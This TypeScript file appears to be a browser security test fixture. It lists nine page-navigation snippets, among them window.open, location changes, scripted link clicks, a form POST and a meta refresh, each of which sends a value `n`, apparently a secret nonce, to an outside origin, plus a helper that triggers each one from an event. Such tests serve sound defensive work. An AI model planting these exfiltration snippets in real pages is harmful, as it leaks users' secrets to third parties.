/**
 * Ways in which code of a part could carry the number of a notice out, as `n` in the page; each leaves the page when it
 * succeeds.
 * @param elsewhere The origin that it would be carried to.
 */
export const waysOut = (elsewhere: string): Readonly<Record<string, string>> => ({
  'a new window': `open('${elsewhere}/?' + n)`,
  'a new window that is led on': `open('about:blank').location = '${elsewhere}/?' + n`,
  'the location': `location.href = '${elsewhere}/?' + n`,
  'the location, replaced': `location.replace('${elsewhere}/?' + n)`,
  'a link that is clicked by a script': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; document.body.append(a); a.click()`,
  'a link to a new window': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; document.body.append(a); a.click()`,
  'a link that nobody sees': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; a.click()`,
  'a form': `const f = document.createElement('form'); f.action = '${elsewhere}/?' + n; f.method = 'post'; document.body.append(f); f.submit()`,
  'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${elsewhere}/?' + n; document.head.append(m)`,
});

/** Code of a part that tries one way when the page is sent an event: `carry-0` the first, `carry-1` the next. */
export const tryingWays = (number: string, ways: readonly string[]): string =>
  ways
    .map(
      (way, index) =>
        `addEventListener('carry-${index}', () => { const n = '${number}'; ${way}; });`,
    )
    .join('\n');
